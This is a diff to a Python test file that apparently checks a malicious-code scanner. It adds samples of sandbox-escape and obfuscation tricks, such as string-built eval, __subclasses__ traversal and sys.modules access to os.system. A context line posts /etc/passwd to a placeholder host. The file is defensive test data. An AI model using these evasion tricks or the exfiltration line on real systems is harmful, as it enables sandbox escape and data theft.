@@ -46,6 +46,12 @@ def js(doc, name: str = "config.json"):
         ("import httpx\nhttpx.post('http://x', data=open('/etc/passwd').read())", "python.network"),
         ("import os\ngetattr(os, 'system')('id')", "python.process"),
         ("def f():\n    class A:\n        def g(self):\n            __import__('subprocess')\n", "python.code_exec"),
+        ("from os import *\nsystem('id')", "python.process"),
+        ("import sys\nsys.modules['os'].system('id')", "python.obfuscation"),
+        ("getattr(__builtins__, 'ev' + 'al')('1')", "python.obfuscation"),
+        ("().__class__.__base__.__subclasses__()", "python.obfuscation"),
+        ("f.__globals__['os']", "python.obfuscation"),
+        ("globals()['__builtins__']", "python.obfuscation"),
     ],
 )
 def test_dangerous_python_is_malicious(source, rule):
